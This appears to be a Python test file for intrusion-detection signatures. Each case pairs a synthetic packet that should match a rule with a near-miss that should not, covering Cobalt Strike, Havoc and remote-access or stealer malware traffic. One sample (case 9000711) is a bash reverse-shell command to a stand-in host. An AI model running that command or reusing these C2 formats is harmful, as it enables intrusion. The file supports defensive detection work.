# SPDX-License-Identifier: GPL-2.0-or-later
"""Scenarios of frameworks.rules and malware.rules."""
import base64
import struct

import protocols as proto

from sig_base import (
    UP, Case, dns, down, get, post, request, response, smb2_create, tls, udp, up, web,
)  # fmt: skip
from sig_http import agent

BIG_PE = proto.pe(22000)
CODE_64 = bytes.fromhex("4d5a4152554889e5")
CODE_32 = bytes.fromhex("4d5ae8000000005b52455589e5")
BANNER = b"Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation.\r\n\r\n%s"
RSA = base64.b64encode(proto.noise(128)).decode()
ROUTING = base64.b64encode(proto.noise(20)).decode()


def cookie(uri, text, **headers):
    return get(uri, headers={"Cookie": text, **headers})


def octets(uri, body):
    return post(uri, body, headers={"Content-Type": "application/octet-stream"})


def stage(length):
    return down(4444, struct.pack("<I", length) + BIG_PE)


def havoc(value):
    return web(request(), response(b"", headers={"X-Havoc": value}))


FRAMEWORKS = [
    Case(
        9000700,
        tls(((3, "Major Cobalt Strike"), (11, "AdvancedPenTesting"), (10, "cobaltstrike"))),
        tls(((3, "Major Cobalt"), (11, "Strike Mining"), (10, "Cobalt"))),
    ),
    Case(
        9000701, up(445, smb2_create("MSSE-1234-server")), up(445, smb2_create("MSSE-1234-client"))
    ),
    Case(9000702, up(445, smb2_create("postex_1a2b")), up(445, smb2_create("postex_report"))),
    Case(9000703, cookie("/ca", RSA), cookie("/ca", "id=" + RSA)),
    Case(9000704, octets("/submit.php?id=19203", b"\0\0\0\x40"), octets("/submit.php?id=a1", b"\0")),
    Case(9000705, dns("aaa.stage.14919005.c.example.net"), dns("stage.aaa.example.net")),
    Case(9000706, down(4444, CODE_64), down(4444, CODE_64[:6] + b"\0\0")),
    Case(9000707, down(4444, CODE_32), down(4444, CODE_32[:8] + b"none!")),
    Case(9000708, stage(22000), stage(12), (9000001,), (9000001,)),
    Case(9000709, up(4444, BANNER % b"C:\\Users\\joe>"), up(4444, BANNER % b"telnet login: ")),
    Case(
        9000710,
        up(4444, b"uid=0(root) gid=0(root) groups=0(root)\n"),
        up(4444, b"uid=1000(joe) gid=1000(joe) groups=0(root)\n"),
    ),
    Case(
        9000711,
        up(8009, b"x=;bash -i >& /dev/tcp/192.0.2.9/443 0>&1;"),
        up(8009, b"x=;ls -l /dev/tcp/192.0.2.9/443;"),
    ),
    Case(
        9000712, cookie("/login/process.php", "session=" + ROUTING),
        cookie("/login/process.php", "session=" + ROUTING[:20]),
    ),
    Case(9000713, havoc("true"), havoc("false")),
    Case(
        9000714, octets("/", b"\0\0\1\0\xde\xad\xbe\xef\1\2\3\4"), octets("/", b"\0\0\xde\xad\xbe\xef")
    ),
    Case(
        9000715,
        post("/a", b"i=1&data=eA&session=75db-99b1-25fe4e9afbe58696-320bea73"),
        post("/a", b"i=1&data=eA&session=75db-99b1-25fe4e9afbe58696-320bea74"),
    ),
    Case(9000716, agent("NetSupport Manager/1.3"), agent("Manager of NetSupport 1.3")),
]  # fmt: skip

NJRAT = b"214\0ll|'|'|SGFja2VkXzEyMzQ=|'|'|PC|'|'|joe|'|'|"
GHOST = b"Gh0st" + struct.pack("<II", 200, 400)
REMCOS = b"\x24\x04\xff\0" + struct.pack("<II", 60, 75) + b"Host|\x1e\x1e\x1f|PC"
LOKI = bytes.fromhex("120027000000") + struct.pack("<I", 7)
FORM_URI = "/n8ds/?jN6=Bk3Yw2aXq0Zr9Lp7&wl=1b"
FORM = {"Host": "www.example.net", "Connection": "close"}
TRICK = "/tot153/DESKTOP_W10019043.%s/5/file/"
TRICK_ID = "0123456789ABCDEF0123456789ABCDEF"
GADS = "__gads=1:1:1:1; _gat=10.0.19045.64; _ga=1.2.3.4; _u=4445:6A; __io=21_1_2; _gid=5"
GOZI = "/images/" + "aZ9k3LmQ/" * 6 + "x_2Fy8abc/Zt%s7q/Kw1.avi"
AMADEY = b"id=1&vs=4.1&sd=a&os=1&bi=1&ar=1&pc=PC&un=joe&dm=&%s=0"
REDLINE = b"\0\1\0\1\2\2 net.tcp http://tempuri.org/Entity/%s"
MULTIPART = b'--x\r\nContent-Disposition: form-data; name="%s"\r\n\r\n1A\r\n'
SNAKE = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.2; .NET CLR1.0.3705;)"
PONY = "Mozilla/4.0 (compatible; MSIE 5.0; Windows 98)"
ACCESS = bytes.fromhex("3270746628948dabc9c0d1999381a333")
KEYS = b"\x41\0\0\0\x99" + proto.noise(64)


def formbook(tail):
    return up(80, request(FORM_URI, bare=True, headers=FORM) + tail)


MALWARE = [
    Case(9000800, up(5552, NJRAT), up(5552, NJRAT.replace(b"|'|'|", b"|;|;|"))),
    Case(9000801, up(8000, GHOST + b"\x78\x9c\x4b"), up(8000, GHOST + b"\x4b\x78\x9c")),
    Case(9000802, down(1604, b"BF7CAB464EFB"), down(1604, b"BF7CAB464EFBAA")),
    Case(9000803, up(2404, b"[DataStart]\x20\0\0\0"), up(2404, b"The [DataStart] tag")),
    Case(9000804, up(2404, REMCOS), up(2404, REMCOS.replace(b"\x1e\x1e\x1f", b"\x1e\x1e\x1e"))),
    Case(9000805, tls(((3, "AsyncRAT Server"),)), tls(((10, "AsyncRAT Server"), (3, "host")))),
    Case(9000806, tls(((3, "DcRat Server"),)), tls(((3, "My DcRat Server"),))),
    Case(9000807, tls(((3, "Quasar Server CA"),)), tls(((3, "Quasar Astronomy CA"),))),
    Case(9000808, up(3360, KEYS), up(3360, KEYS + b"\0")),
    Case(
        9000809,
        agent("Mozilla/4.08 (Charon; Inferno)"),
        agent("Mozilla/4.08 (Charon, Inferno)"),
    ),
    Case(9000810, octets("/", LOKI + b"ckav.ru\0"), octets("/", LOKI + b"other\0\0\0")),
    Case(9000811, formbook(b"\0" * 7), formbook(b"")),
    Case(9000812, get(TRICK % TRICK_ID), get(TRICK % TRICK_ID[:20])),
    Case(9000813, cookie("/", GADS), cookie("/", GADS.replace("__io", "_io"))),
    Case(9000814, get(GOZI % "9_2B"), get(GOZI % "9_2C")),
    Case(
        9000815,
        post("/8/forum.php", b"GUID=1&BUILD=a&INFO=PC&EXT=&IP=192.0.2.1&TYPE=1&WIN=10.0"),
        post("/8/forum.php", b"GUID=1&BUILD=a&INFO=PC&EXT=&IP=192.0.2.1&TYPE=2&WIN=10.0"),
    ),
    Case(
        9000816,
        post("/", b"machineId=01234567-89ab-cdef-0123-456789abcdef|joe&configId=" + b"0a" * 16),
        post("/", b"machineId=01234567-89ab-cdef-0123-456789abcdef&configId=" + b"0a" * 16),
    ),
    Case(
        9000817,
        octets("/a.php", MULTIPART % b"hwid" + MULTIPART % b"build"),
        octets("/a.php", MULTIPART % b"hwid" + MULTIPART % b"built"),
    ),
    Case(9000818, up(6677, REDLINE % b"Id1"), up(6677, REDLINE % b"Identity")),
    Case(9000819, post("/index.php", AMADEY % b"av"), post("/index.php", AMADEY % b"ev")),
    Case(
        9000820,
        post("/is-ready", b"a", headers={"User-Agent": "A1<|>PC<|>joe<|>10<|>plus"}),
        post("/is-ready", b"a"),
    ),
    Case(9000821, up(7788, b"ping|STRRAT|1A2B|joe|"), up(7788, b"ping|BAT|1A2B|joe|")),
    Case(9000822, agent(SNAKE), agent(SNAKE.replace("CLR1", "CLR 1"))),
    Case(
        9000823,
        post("/p.php", b"\1\2", headers={"User-Agent": PONY, "Content-Encoding": "binary"}),
        post("/p.php", b"\1\2", headers={"User-Agent": PONY}),
    ),
    Case(9000824, udp(16464, (UP, ACCESS)), udp(16464, (UP, ACCESS + b"\0"))),
    Case(9000825, down(23, b"!* SCANNER ON\n"), down(23, b"!* SCANNER ONE\n")),
    Case(9000826, down(23, b"!* UDP 192.0.2.7 53 60\n"), down(23, b"!* UDP 192.0.2.7 is down\n")),
]

CASES = FRAMEWORKS + MALWARE
